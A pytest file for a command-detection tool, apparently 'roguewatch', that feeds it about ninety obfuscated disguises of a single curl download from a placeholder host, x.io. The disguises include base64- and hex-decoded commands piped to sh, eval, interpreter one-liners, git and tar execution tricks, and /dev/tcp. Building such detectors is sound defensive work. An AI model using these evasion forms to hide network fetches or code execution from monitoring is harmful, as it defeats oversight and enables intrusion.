"""One download in many disguises, written without a look at what is understood."""

from __future__ import annotations

import pytest

from roguewatch.detect.commands import understand

DISGUISES = [
    ('bash',"c$@u$@rl http://x.io/a"),
    ('bash',"cu''rl ht''tp://x.io/a"),
    ('bash',"$'\\143\\165\\162\\154' http://x.io/a"),
    ('bash',"a=cu;b=rl;$a$b http://x.io/a"),
    ('bash',"{curl,http://x.io/a}"),
    ('bash',"eval \"$(printf '%s' 'curl http://x.io/a')\""),
    ('bash',"bash<<<'curl http://x.io/a'"),
    ('bash',"echo 'a/oi.x//:ptth lruc' | rev | sh"),
    ('bash',"echo Y3VybCBodHRwOi8veC5pby9h | base64 -d | bash"),
    ('bash',"xxd -r -p <<< 6375726c20687474703a2f2f782e696f2f61 | sh"),
    ('bash',"v='cXurl'; ${v/X/} http://x.io/a"),
    ('bash',"v=CURL; ${v,,} http://x.io/a"),
    ('bash',"v=xxcurl; ${v:2} http://x.io/a"),
    ('bash',"v=curlzz; ${v%zz} http://x.io/a"),
    ('bash',"v=zzcurl; ${v#zz} http://x.io/a"),
    ('bash',"n=v; v=curl; ${!n} http://x.io/a"),
    ('bash',"printf -v c '%b' '\\x63url'; $c http://x.io/a"),
    ('bash',"read c <<< curl; $c http://x.io/a"),
    ('bash',"f(){ \"$@\"; }; f curl http://x.io/a"),
    ('bash',"command -p curl http://x.io/a"),
    ('bash',"builtin command curl http://x.io/a"),
    ('bash',"env -i PATH=/usr/bin curl http://x.io/a"),
    ('bash',"setsid -f curl http://x.io/a"),
    ('bash',"timeout 5 nice -n 3 curl http://x.io/a"),
    ('bash',"echo http://x.io/a | xargs -I{} curl {}"),
    ('bash',"find . -maxdepth 0 -exec curl http://x.io/a \\;"),
    ('bash',"$(echo c)url http://x.io/a"),
    ('bash',"`echo curl` http://x.io/a"),
    ('bash',"/usr/bin/c?rl http://x.io/a"),
    ('bash',"tr 'a-z' 'n-za-m' <<< 'phey uggc://k.vb/n' | sh"),
    ('bash',"while read l; do $l; done <<< 'curl http://x.io/a'"),
    ('bash',"trap 'curl http://x.io/a' EXIT"),
    ('bash',"PROMPT_COMMAND='curl http://x.io/a' bash -i"),
    ('bash',"exec 3<>/dev/tcp/x.io/80"),
    ('bash',"coproc curl http://x.io/a"),
    ('bash',"source <(echo 'curl http://x.io/a')"),
    ('bash',". /dev/stdin <<< 'curl http://x.io/a'"),
    ('bash',"IFS=,; c=curl,http://x.io/a; $c"),
    ('bash',"declare -f >/dev/null; declare c=curl; $c http://x.io/a"),
    ('bash',"set -- curl http://x.io/a; \"$@\""),
    ('bash',"for i in c u r l; do s+=$i; done; $s http://x.io/a"),
    ('bash',"((1)) && curl http://x.io/a"),
    ('bash',"[[ 1 ]] && { curl http://x.io/a; }"),
    ('bash',"case a in a) curl http://x.io/a;; esac"),
    ('bash',"if :; then curl http://x.io/a; fi"),
    ('bash',"awk 'BEGIN{system(\"curl http://x.io/a\")}'"),
    ('bash',"perl -e 'exec \"curl\",\"http://x.io/a\"'"),
    ('bash',"ruby -e '`curl http://x.io/a`'"),
    ('bash',"node -e 'require(\"child_process\").spawnSync(\"curl\",[\"http://x.io/a\"])'"),
    ('bash',"node -e 'require(\"child_\"+\"process\").execSync(Buffer.from(\"Y3VybCBodHRwOi8veC5pby9h\",\"base64\").toString())'"),
    ('bash',"python3 -c 'import os;os.system(\"cu\"+\"rl http://x.io/a\")'"),
    ('bash',"python3 -c 'import subprocess as s;s.run([\"curl\",\"http://x.io/a\"])'"),
    ('bash',"python3 -c '__import__(\"os\").system(bytes.fromhex(\"6375726c20687474703a2f2f782e696f2f61\").decode())'"),
    ('bash',"python3 -c 'exec(__import__(\"base64\").b64decode(\"aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCBodHRwOi8veC5pby9hIik=\"))'"),
    ('bash',"python3 -c 'import os;os.system(\"\".join(map(chr,[99,117,114,108,32,104,116,116,112,58,47,47,120,46,105,111,47,97])))'"),
    ('bash',"python3 -c 'import os;os.system(\"a/oi.x//:ptth lruc\"[::-1])'"),
    ('bash',"python3 -c 'import os;getattr(os,\"sys\"+\"tem\")(\"curl http://x.io/a\")'"),
    ('bash',"python3 -c 'import os;c=\"curl {}\";os.system(c.format(\"http://x.io/a\"))'"),
    ('bash',"python3 -c 'import os;u=\"http://x.io/a\";os.system(f\"curl {u}\")'"),
    ('bash',"python3 -c 'import os;os.execvp(\"curl\",[\"curl\",\"http://x.io/a\"])'"),
    ('bash',"python3 -c 'import pty;pty.spawn([\"curl\",\"http://x.io/a\"])'"),
    ('bash',"php -r 'shell_exec(\"curl http://x.io/a\");'"),
    ('bash',"lua -e 'os.execute(\"curl http://x.io/a\")'"),
    ('bash',"busybox sh -c 'curl http://x.io/a'"),
    ('bash',"ssh localhost 'curl http://x.io/a'"),
    ('bash',"script -qc 'curl http://x.io/a' /dev/null"),
    ('bash',"tmux new -d 'curl http://x.io/a'"),
    ('bash',"screen -dm bash -c 'curl http://x.io/a'"),
    ('bash',"systemd-run --user curl http://x.io/a"),
    ('bash',"echo 'curl http://x.io/a' | at now"),
    ('bash',"git -c alias.z='!curl http://x.io/a' z"),
    ('bash',"GIT_SSH_COMMAND='curl http://x.io/a' git fetch"),
    ('bash',"vim -es -c '!curl http://x.io/a' -c q"),
    ('bash',"sed -n '1e curl http://x.io/a' /etc/hosts"),
    ('bash',"tar cf /dev/null a --checkpoint=1 --checkpoint-action=exec='curl http://x.io/a'"),
    ('bash',"env -S 'curl http://x.io/a'"),
    ('bash',"parallel curl ::: http://x.io/a"),
    ('bash',"watch -n1 curl http://x.io/a"),
    ('bash',"flock /tmp/l curl http://x.io/a"),
    ('bash',"strace -o /dev/null curl http://x.io/a"),
    ('bash',"zsh -c 'curl http://x.io/a'"),
    ('bash',"pwsh -c \"curl http://x.io/a\""),
    ('ps',"& ('cu'+'rl') http://x.io/a"),
    ('ps',"iex ('{1}{0}' -f 'rl http://x.io/a','cu')"),
    ('ps',"powershell -enc YwB1AHIAbAAgAGgAdAB0AHAAOgAvAC8AeAAuAGkAbwAvAGEA"),
    ('ps',"I`E`X 'curl http://x.io/a'"),
    ('ps',"Invoke-Expression ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('Y3VybCBodHRwOi8veC5pby9h')))"),
    ('ps',"Start-Process curl -ArgumentList 'http://x.io/a'"),
    ('ps',"cmd /c \"curl http://x.io/a\""),
    ('ps',"$c='cu'+'rl'; & $c http://x.io/a"),
    ('ps',"-join('c','u','r','l',' http://x.io/a') | iex"),
    ('ps',"('lruc'[3..0] -join '') | % { & $_ http://x.io/a }"),
    ('ps',"cmd /c c^u^r^l http://x.io/a"),
]  # fmt: skip


@pytest.mark.parametrize(("shell", "text"), DISGUISES)
def test_a_download_is_seen_through_its_disguise(shell: str, text: str) -> None:
    seen = understand(text, "powershell" if shell == "ps" else "bash")
    fetching = [one for one in seen if one.program in ("curl", "Invoke-WebRequest", "exec")]
    assert any("x.io" in one.text or "x.io" in " ".join(one.urls) for one in fetching)


PYTHON = [
    "import os; os.system(bytes(b ^ 7 for b in [100, 114, 117, 107, 39, 127, 41, 110, 104]).decode())",
    "import os; os.system(''.join(map(lambda c: chr(c - 1), [100, 118, 115, 109, 33, 121, 47, 106, 112])))",
    "import os; os.system(''.join(reversed('oi.x lruc')))",
    "import os; os.system(''.join([chr(ord(c)) for c in 'curl x.io']))",
    "import os, zlib, base64; os.system(zlib.decompress(base64.b64decode("
    "'eJxLLi3KUajQy8wHABEdA1U=')).decode())",
    "import os; os.system(''.join(chr(n) for n in [99, 117, 114, 108, 32, 120, 46, 105, 111]))",
]


@pytest.mark.parametrize("program", PYTHON)
def test_what_python_computes_of_constants_is_known(program: str) -> None:
    seen = understand(f'python3 -c "{program}"')
    assert [one.arguments for one in seen if one.program == "curl"] == [("x.io",)]


@pytest.mark.parametrize(
    "program",
    [
        "import os; os.system(''.join(chr(n) for n in range(10**12)))",
        "import os; os.system('a' * 10**12)",
        "import os, zlib; os.system(zlib.decompress(b'not packed').decode())",
        "import os; os.system(chr(10**9))",
        "import os; os.system([[b for b in range(8000)] for a in range(8000)])",
        "import os; os.system(str(9**9**9))",
        "x = [1]; os.system(''.join(chr(1 << n) for n in [10**9]))",
    ],
)
def test_what_would_take_long_to_compute_is_left(program: str) -> None:
    assert [one.program for one in understand(f'python3 -c "{program}"')] == ["python3"]
